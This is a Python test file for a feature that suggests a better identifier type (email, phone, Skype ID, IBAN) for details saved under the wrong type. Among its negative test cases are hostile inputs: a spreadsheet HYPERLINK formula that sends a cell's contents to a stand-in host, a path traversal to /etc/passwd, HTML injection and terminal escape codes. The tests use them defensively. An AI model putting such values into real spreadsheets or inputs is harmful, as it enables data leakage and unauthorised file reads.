"""The type a detail plainly is, offered when it was saved as another (app/core/reading/retype)."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.core.identifiers import IdentifierType as T
from app.core.reading.retype import MAX_RETYPE_CHARS, checked_with_retype, plainly_another_type


@pytest.mark.parametrize(("chosen", "value", "plainly"), [
    (T.FACEBOOK, "live:anna.smith.love88", T.SKYPE_ID),
    (T.EMAIL, "live:anna.smith.love88", T.SKYPE_ID),
    (T.USERNAME, "anna.smith.love88@gmail.com", T.EMAIL),
    (T.BANK_ACCOUNT, "anna@outlook.com", T.EMAIL),
    (T.MTCN, "+44 7911 123456", T.PHONE),
    (T.EMAIL, "07911 123456", T.PHONE),
    (T.USERNAME, "GB33BUKB20201555555555", T.IBAN),
    (T.PHONE, "GB33 BUKB 2020 1555 5555 55", T.IBAN),
])
def test_a_value_that_plainly_is_another_type_is_offered_it(
        chosen: T, value: str, plainly: T) -> None:
    checked = checked_with_retype(chosen, value)
    assert checked.warnings  # its own type doubted it
    assert checked.better_type is plainly
    assert plainly_another_type(chosen, value) is plainly


@pytest.mark.parametrize(("chosen", "value"), [
    (T.FACEBOOK, "Anna Smith"),  # doubted, but no other type either
    (T.SKYPE_NAME, "anna smith"),  # taken by its own type: not looked at
    (T.EMAIL, "anna.smith@example.com"),
    (T.PHONE, "+44 7911 123456"),
    (T.EMAIL, "call me on +44 7911 123456"),  # a detail inside other words: not the value
    (T.EMAIL, "anna@outlook.com or +44 7911 123456"),  # two details: which one?
    (T.MTCN, "+44 7700 900123"),  # a number its own type would doubt too (a drama number)
    (T.NAME, "live:anna"),  # a name may be anything
    (T.OTHER, "live:anna.smith"),
    (T.USERNAME, "=HYPERLINK(\"http://x.example/?\"&A1)"),
    (T.USERNAME, "../../etc/passwd"),
    (T.USERNAME, "<font color=red>live:anna</font>"),
    (T.USERNAME, "live:anna\x00\x1b[2J"),
    (T.FACEBOOK, "live:" + "a" * MAX_RETYPE_CHARS),  # past the length looked at
])
def test_nothing_is_offered_where_nothing_is_plain(chosen: T, value: str) -> None:
    assert checked_with_retype(chosen, value).better_type is None


def test_what_a_value_is_kept_as_does_not_change() -> None:
    from app.core.identifiers import normalise

    checked = checked_with_retype(T.FACEBOOK, "live:anna.smith.love88")
    plain = normalise(T.FACEBOOK, "live:anna.smith.love88")
    assert (checked.normalised, checked.warnings, checked.platform) == \
        (plain.normalised, plain.warnings, plain.platform)


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(list(T)), st.text(max_size=120))
def test_never_raises_and_never_offers_the_same_type(chosen: T, value: str) -> None:
    better = checked_with_retype(chosen, value).better_type
    assert better is None or (better is not chosen and isinstance(better, T))
